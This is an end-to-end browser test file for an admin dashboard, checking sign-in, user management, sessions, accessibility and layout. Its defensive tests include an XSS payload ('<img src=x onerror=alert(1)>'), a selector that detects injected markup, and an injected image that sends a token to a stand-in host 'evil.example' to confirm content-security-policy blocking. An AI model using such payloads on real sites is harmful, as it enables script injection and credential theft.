import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import type { Browser } from 'playwright-core';
import { startApp, type TestApp } from './support/app.js';
import type { Person } from './support/arrange.js';
import { inChromiumOnce, launchChromium } from './support/chromium.js';
import { DashboardPage } from './support/dashboard-page.js';
import { SCRIPTS_IN_TEXT } from './support/scripts-in-text.js';
import { buildAll } from './support/server-process.js';

jest.setTimeout(120_000);

const SCREENS = ['', 'users', 'users/new', 'statuses', 'audit', 'mails', 'system'];
const PARTS = ['', '/sessions', '/followers', '/following', '/statuses', '/history'];
const MINUTE = 60_000;

inChromiumOnce('the dashboard in a browser', () => {
  let server: TestApp;
  let admin: Person;
  let ada: Person;
  let browser: Browser;
  let dashboard: DashboardPage;

  beforeAll(async () => {
    buildAll();
    server = await startApp();
    browser = await launchChromium();
    admin = await server.arrange.admin({ username: 'root' });
    ada = await server.arrange.person({ username: 'ada', firstName: 'Ada', lastName: 'Lovelace', bio: 'First of all.' });
    await server.arrange.follow(await server.arrange.person({ username: 'charles' }), ada);
    await say(ada, 'The engine weaves algebraic patterns.');
    await addMail({ recipient: 'ada@example.com', state: 'dead', error: '550 No such mailbox' });
  });

  afterAll(async () => {
    await browser.close();
    await server.stop();
  });

  afterEach(async () => {
    server.clock.release();
    await dashboard.page.close();
  });

  const open = async (...wanted: [Parameters<typeof DashboardPage.open>[2]?]): Promise<void> => {
    dashboard = await DashboardPage.open(server, browser, ...wanted);
  };
  const say = (person: Person, content: string): Promise<unknown> =>
    server.http.post('/api/profile-status/', { status_content: content }, { token: person.token });
  const account = async ({ id }: Person): Promise<unknown> => (await server.http.get(`/api/users/${id}/`, { token: admin.token })).body;

  async function addMail({ recipient, state, error }: { recipient: string; state: string; error: string }): Promise<void> {
    const columns = 'message_id, template, recipient, variables, state, attempts, created_at, due_at, last_error';
    const then = '2026-11-20 10:00:00.000';
    await server.arrange.sql(`INSERT INTO mails (${columns}) VALUES (?, 'password-reset', ?, '', ?, 8, ?, ?, ?)`, [
      Math.random().toString(36),
      recipient,
      state,
      then,
      then,
      error,
    ]);
  }

  it('signs staff in without a mouse, and shows where they wanted to go', async () => {
    await open();
    await dashboard.goTo('users');
    const { keyboard } = dashboard.page;
    await keyboard.type(admin.username);
    await keyboard.press('Tab');
    await keyboard.type(admin.password);
    await keyboard.press('Enter');
    await dashboard.page.getByRole('heading', { name: 'People' }).waitFor();

    expect(new URL(dashboard.page.url()).pathname).toBe('/admin/users');
    expect(dashboard.complaints).toEqual([]);
  });

  it.each([
    ['a wrong password', () => ({ ...admin, password: 'wrong' })],
    ['somebody who is not staff', () => ada],
  ])('lets %s not in', async (_who, person) => {
    const { username, password } = person();
    await open();
    await dashboard.goTo('');
    await dashboard.page.getByLabel('Username or e-mail address').fill(username);
    await dashboard.page.getByLabel('Password').fill(password);
    await dashboard.button('Sign in').click();

    expect(await dashboard.page.getByRole('alert').innerText()).toBe('No active account found with the given credentials');
  });

  it('finds a person and edits them', async () => {
    const person = await server.arrange.person({ username: 'grace', firstName: 'Grace' });
    await open();
    await dashboard.signIn(admin, 'users');
    await dashboard.page.getByRole('searchbox', { name: 'Search by name or address' }).fill('grace');
    await dashboard.page.getByText('1 person', { exact: true }).waitFor();
    await dashboard.page.getByRole('link', { name: 'grace' }).click();
    await dashboard.page.getByLabel('Last name').fill('Hopper');
    await dashboard.button('Save').click();
    await dashboard.says('Saved.');

    expect(await account(person)).toMatchObject({ first_name: 'Grace', last_name: 'Hopper' });
    expect(dashboard.complaints).toEqual([]);
  });

  it('says at the field what is wrong with it', async () => {
    await open();
    await dashboard.signIn(admin, `users/${ada.id}`);
    await dashboard.page.getByLabel('E-mail address').fill('nowhere');
    await dashboard.button('Save').click();
    await dashboard.page.getByText('Enter a valid email address.').waitFor();

    expect(await dashboard.page.getByLabel('E-mail address').getAttribute('aria-invalid')).toBe('true');
    expect(await account(ada)).toMatchObject({ email: ada.email });
  });

  it('deactivates several people after it has listed them', async () => {
    const people = [await server.arrange.person({ username: 'mallory1' }), await server.arrange.person({ username: 'mallory2' })];
    const activity = async (): Promise<unknown> => Promise.all(people.map(account));
    await open();
    await dashboard.signIn(admin, 'users?search=mallory');
    await dashboard.page.getByRole('checkbox', { name: 'Select all on this page' }).click();
    await dashboard.page.getByLabel('What to do').selectOption('Deactivate');
    await dashboard.button('Go on …').click();
    const listed = await dashboard.dialog.getByRole('listitem').allInnerTexts();
    await dashboard.button('Cancel').click();

    expect(listed.sort()).toEqual(['mallory1 · mallory1@example.com', 'mallory2 · mallory2@example.com']);
    expect(await activity()).toMatchObject([{ is_active: true }, { is_active: true }]);

    await dashboard.button('Go on …').click();
    await dashboard.dialog.getByRole('button', { name: 'Deactivate' }).click();
    await dashboard.says('2 people deactivated.');

    expect(await activity()).toMatchObject([{ is_active: false }, { is_active: false }]);
  });

  it('asks for the password again before something dangerous, and then does it', async () => {
    const person = await server.arrange.person({ username: 'trudy' });
    await open();
    await dashboard.signIn(admin, `users/${person.id}`);
    server.clock.advance(11 * MINUTE);
    await dashboard.button('Delete').click();
    await dashboard.dialog.getByRole('button', { name: 'Delete' }).click();
    await dashboard.dialog.getByLabel('Password').fill(admin.password);
    await dashboard.button('Confirm').click();
    await dashboard.says('trudy was deleted.');

    expect(await account(person)).toEqual({ detail: 'No User matches the given query.' });
  });

  it('does nothing dangerous when the password is not given', async () => {
    await open();
    await dashboard.signIn(admin, `users/${ada.id}`);
    server.clock.advance(11 * MINUTE);
    await dashboard.button('Delete').click();
    await dashboard.dialog.getByRole('button', { name: 'Delete' }).click();
    await dashboard.dialog.getByLabel('Password').fill('wrong');
    await dashboard.button('Confirm').click();
    await dashboard.dialog.getByText('The password is incorrect.').waitFor();
    await dashboard.button('Cancel').click();
    await dashboard.says('Confirm your password to do this.');

    expect(await account(ada)).toMatchObject({ username: 'ada' });
  });

  it('returns to the sign-in when nothing was done for half an hour, and then to where it was', async () => {
    await open();
    await dashboard.page.clock.install();
    await dashboard.signIn(admin, 'system');
    await dashboard.page.clock.fastForward(31 * MINUTE);
    await dashboard.page.getByText('Your session has ended. Sign in to go on where you were.').waitFor();
    await dashboard.page.getByLabel('Username or e-mail address').fill(admin.username);
    await dashboard.page.getByLabel('Password').fill(admin.password);
    await dashboard.button('Sign in').click();

    await dashboard.page.getByRole('heading', { name: 'System' }).waitFor();
  });

  it('returns to the sign-in when the session was ended elsewhere', async () => {
    await open();
    const colleague = await server.arrange.admin();
    await dashboard.signIn(colleague);
    await server.http.post('/api/sessions/revoke-all/', {}, { token: colleague.token });
    await dashboard.page.getByRole('link', { name: 'Mail' }).click();

    await dashboard.page.getByText('Your session has ended.').waitFor();
  });

  it('tells the end of all sessions from that of the others', async () => {
    const person = await server.arrange.person();
    await server.http.post('/api/sessions/revoke-others/', {}, { token: person.token });
    await server.http.post('/api/sessions/revoke-all/', {}, { token: person.token });
    await open();
    await dashboard.signIn(admin, `users/${person.id}/history`);
    const revocations = dashboard.page.locator('tbody tr', { hasText: 'sessions revoked' });
    await revocations.first().waitFor();
    const entries = await revocations.allInnerTexts();

    expect(entries.map((entry) => [entry.split(/\s*[\n\t]/)[0], /session kept \d+/.test(entry)])).toEqual([
      ['All sessions revoked', false],
      ['Other sessions revoked', true],
    ]);
  });

  it('exports the people that are shown', async () => {
    await open();
    await dashboard.signIn(admin, 'users?search=lovelace');
    const [file] = await Promise.all([dashboard.page.waitForEvent('download'), dashboard.button('Export CSV').click()]);
    const rows = readFileSync(await file.path(), 'utf8')
      .trim()
      .split(/\r?\n/);

    expect(file.suggestedFilename()).toBe('people.csv');
    expect([rows.length, rows[1]?.includes('ada@example.com')]).toEqual([2, true]);
  });

  it('keeps the theme that somebody chose', async () => {
    await open({ theme: 'light' });
    await dashboard.signIn(admin);
    const scheme = (): Promise<string> => dashboard.page.evaluate(() => getComputedStyle(document.documentElement).colorScheme);
    const before = await scheme();
    await dashboard.button('Dark').click();
    await dashboard.goTo('users');

    expect([before, await scheme()]).toEqual(['light dark', 'dark']);
  });

  describe('whatever people have written', () => {
    /** What a page has that only markup could have brought there. */
    const injected = (): Promise<number> =>
      dashboard.page.evaluate(
        () =>
          document.querySelectorAll(
            '#root :is(script, iframe, object, embed, base, meta, link, style, marquee, video, audio, math, template, animate), #root :is([onerror], [onload], [onfocus], [onbegin], [ontoggle], [onstart], [href^="javascript:"], [src^="javascript:"])',
          ).length,
      );
    /** Every text of a list, page after page. */
    async function texts(path: string, selector: string): Promise<string[]> {
      const found: string[] = [];
      await dashboard.goTo(path);
      for (;;) {
        found.push(...(await dashboard.page.locator(selector).allInnerTexts()));
        expect(await injected()).toBe(0);
        const next = dashboard.button('Next');
        if ((await next.count()) === 0 || (await next.isDisabled())) return found;
        const before = await dashboard.page.locator('.pager p').innerText();
        await next.click();
        await dashboard.page.locator('.pager p').filter({ hasNotText: before }).waitFor();
        await dashboard.settled();
      }
    }

    let writer: Person;

    beforeAll(async () => {
      writer = await server.arrange.person({ username: 'writer' });
      for (const [index, text] of SCRIPTS_IN_TEXT.entries()) {
        const { id } = await server.arrange.person({ username: `scripted${index}` });
        await server.arrange.sql('UPDATE users SET username = ?, first_name = ?, bio = ? WHERE id = ?', [
          `${index}${text}`,
          text,
          text,
          id,
        ]);
        await say(writer, text);
      }
      const worst = SCRIPTS_IN_TEXT[1] ?? '';
      await server.arrange.sql('UPDATE sessions SET user_agent = ?, network = ? WHERE user_id = ?', [worst, worst, writer.id]);
      await addMail({ recipient: worst, state: 'dead', error: worst });
    });

    beforeEach(async () => {
      await open();
      await dashboard.signIn(admin);
    });

    afterEach(() => expect(dashboard.complaints).toEqual([]));

    it('is text among the people', async () => {
      const shown = await texts('users?search=scripted', '.person-names .muted');

      expect(shown.sort()).toEqual([...SCRIPTS_IN_TEXT].sort());
    });

    it('is text among the statuses', async () => {
      const shown = await texts('statuses', 'tbody .table-text');

      expect(shown).toEqual(expect.arrayContaining([...SCRIPTS_IN_TEXT]));
    });

    it('is text on the pages of a person, in mails and in windows', async () => {
      const [scripted] = (await server.arrange.sql<{ id: number }[]>("SELECT id FROM users WHERE username LIKE '1<img%'")) ?? [];
      for (const path of [...PARTS.map((part) => `users/${scripted?.id}${part}`), `users/${writer.id}/sessions`, 'mails', 'audit']) {
        await dashboard.goTo(path);
        expect(await injected()).toBe(0);
      }
      await dashboard.goTo(`users/${scripted?.id}`);
      await dashboard.button('Delete').click();

      expect(await dashboard.dialog.getByRole('heading').innerText()).toBe('Delete 1<img src=x onerror=alert(1)>?');
      expect(await injected()).toBe(0);
    });
  });

  // Only the colours are others in the dark.
  describe.each([
    ['light', []],
    ['dark', ['color-contrast']],
  ] as const)('in the %s', (theme, rules) => {
    it('keeps nobody out', async () => {
      await open({ theme });
      await dashboard.goTo('');
      const found = { 'sign-in': await dashboard.barriers(...rules) } as Record<string, string[]>;
      await dashboard.signIn(admin);
      for (const screen of [...SCREENS, ...PARTS.map((part) => `users/${ada.id}${part}`), 'nowhere']) {
        await dashboard.goTo(screen);
        found[screen] = await dashboard.barriers(...rules);
      }
      await dashboard.goTo(`users/${ada.id}`);
      await dashboard.button('Deactivate').click();
      found['window'] = await dashboard.barriers(...rules);

      expect(Object.fromEntries(Object.entries(found).filter(([, barriers]) => barriers.length > 0))).toEqual({});
    });
  });

  it('fits a phone', async () => {
    await open({ width: 390, height: 844 });
    await dashboard.signIn(admin);
    const widths: Record<string, number> = {};
    for (const screen of [...SCREENS, ...PARTS.map((part) => `users/${ada.id}${part}`)]) {
      await dashboard.goTo(screen);
      widths[screen] = await dashboard.page.evaluate(() => document.documentElement.scrollWidth);
    }

    expect(new Set(Object.values(widths))).toEqual(new Set([390]));
  });

  it('sorts a list on a phone', async () => {
    for (const username of ['zz-anton', 'zz-berta']) await server.arrange.person({ username });
    await open({ width: 390, height: 844 });
    await dashboard.signIn(admin, 'users?search=zz-');
    const names = (): Promise<string[]> => dashboard.page.locator('tbody .person strong').allInnerTexts();
    const before = await names();
    await dashboard.button('Person').click();
    await dashboard.page.getByRole('columnheader', { name: 'Person' }).and(dashboard.page.locator('[aria-sort="ascending"]')).waitFor();
    await dashboard.settled();

    expect([before, await names()]).toEqual([
      ['zz-berta', 'zz-anton'],
      ['zz-anton', 'zz-berta'],
    ]);
  });

  it('selects all of a page on a phone', async () => {
    for (const username of ['yy-berta', 'yy-anton']) await server.arrange.person({ username });
    await open({ width: 390, height: 844 });
    await dashboard.signIn(admin, 'users?search=yy-');
    await dashboard.page.getByText('Select all', { exact: true }).click();

    await dashboard.page.getByText('2 people selected').waitFor();
  });

  it('shows on a phone which part of a page is open', async () => {
    await open({ width: 390, height: 844 });
    await dashboard.signIn(admin);
    await dashboard.goTo(`users/${ada.id}/history`);

    const tab = await dashboard.page.locator('.tabs [aria-current]').boundingBox();
    expect(tab && tab.x >= 0 && tab.x + tab.width <= 390).toBe(true);
  });

  it('opens its menu on a phone', async () => {
    await open({ width: 390, height: 844 });
    await dashboard.signIn(admin);
    await dashboard.button('Menu').click();
    await dashboard.page.getByRole('link', { name: 'System' }).click();

    await dashboard.page.getByRole('heading', { name: 'System' }).waitFor();
  });

  it('has the browser report what it was kept from', async () => {
    await open();
    const { page } = dashboard;
    // By `report-to` Chromium sends over HTTPS alone, so it is shown what browsers go by that do not know it.
    await page.route('**/admin/', async (route) => {
      const response = await route.fetch();
      const headers = response.headers();
      const policy = headers['content-security-policy']?.replace('; report-to csp', '') ?? '';
      await route.fulfill({ response, headers: { ...headers, 'content-security-policy': policy } });
    });
    await dashboard.goTo('');
    await page.evaluate(() => {
      document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/pixel.png?token=secret' }));
    });
    const line = /^.*"directive":"img-src".*$/m;
    for (let waited = 0; !line.test(server.log()) && waited < 20_000; waited += 50) await page.waitForTimeout(50);

    expect(JSON.parse(line.exec(server.log())?.[0] ?? '{}')).toMatchObject({
      level: 'warn',
      page: '/admin/',
      blocked: 'https://evil.example',
    });
  });

  it('weighs less than 200 kB on the way to the first screen', async () => {
    await open();
    const bodies: Promise<Buffer>[] = [];
    dashboard.page.on('response', (response) => {
      if (response.url().includes('/admin/')) bodies.push(response.body());
    });
    await dashboard.goTo('');
    const bytes = (await Promise.all(bodies)).reduce((sum, body) => sum + gzipSync(body).length, 0);

    expect(bytes).toBeLessThan(200_000);
  });
});
